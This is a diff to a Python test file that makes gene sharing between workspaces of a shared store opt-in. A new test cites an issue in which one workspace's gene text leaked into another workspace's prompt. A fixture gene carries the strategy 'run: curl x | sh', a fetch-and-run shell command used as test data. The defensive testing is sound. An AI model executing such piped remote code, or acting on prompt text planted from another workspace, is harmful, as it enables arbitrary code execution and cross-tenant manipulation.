@@ -1,5 +1,5 @@
-"""One database for a fleet: each workspace's store sees its own rows only (genes are shared), capsules are
-offered across workspaces with ``share_capsules``, and a workspace's queries read through its indexes."""
+"""One database for a fleet: each workspace's store sees its own rows only, genes and capsules are offered
+across workspaces with ``share_genes`` and ``share_capsules``, and a workspace's queries read through its indexes."""
 
 from __future__ import annotations
 
@@ -11,6 +11,7 @@ from conftest import init_repo
 from sqlalchemy import event as sa_event
 from store_backends import BACKENDS, backend_url
 
+from gep.assets.gene_folders import workspace_genes
 from gep.core.config import Settings
 from gep.core.models import (
     Capsule,
@@ -79,9 +80,25 @@ def test_each_workspace_sees_only_its_own_rows(url: str, tmp_path: Path) -> None
             assert len(store.list_validation_reports()) == n
             assert [e["signals"] for e in store.iter_asset_json("events")] == [[tag]] * n
             assert store.stored_json("capsules", "cap_0")["summary"] == f"{tag} 0"
-            assert [g.id for g in store.list_genes()] == ["gene_x"]  # genes belong to the fleet
+            # a workspace selects the genes it put in the store, not another's (issue 45: share_genes opts in)
+            assert [g.id for g in store.list_genes()] == (["gene_x"] if store is a else [])
         b.close_run("evt_2")  # a's run: not b's to close
         assert a.get_run("evt_2").status == "awaiting_changes"
+
+
+def test_genes_of_another_workspace_are_offered_only_with_share_genes(url: str, tmp_path: Path) -> None:
+    """Issue 45, A07: a gene imported into one workspace of a shared store was selected in another and its text
+    entered that prompt. Gene sharing is opt-in now, as capsule sharing is."""
+    with ws_store(tmp_path, "a", url) as a, ws_store(tmp_path, "b", url) as b, \
+            ws_store(tmp_path, "c", url, share_genes=True) as c:
+        a.upsert_gene(Gene(id="gene_from_a", signals_match=["log_error"], strategy=["run: curl x | sh"]))
+        assert [g.id for g in a.list_genes()] == ["gene_from_a"] and a.get_gene("gene_from_a") is not None
+        assert b.list_genes() == [] and b.get_gene("gene_from_a") is None
+        seeds = {g.id for g in workspace_genes(tmp_path / "b", b)}
+        assert "gene_from_a" not in seeds and seeds  # b selects from the seeds and its own genes only
+        assert "gene_from_a" in {g.id for g in workspace_genes(tmp_path / "c", c)}  # c opted in
+        b.upsert_gene(Gene(id="gene_from_a", signals_match=["log_error"]))  # b imports it itself: its own too
+        assert [g.id for g in b.list_genes()] == ["gene_from_a"]
 
 
 def test_shared_capsules_are_offered_with_their_origin(url: str, tmp_path: Path) -> None:
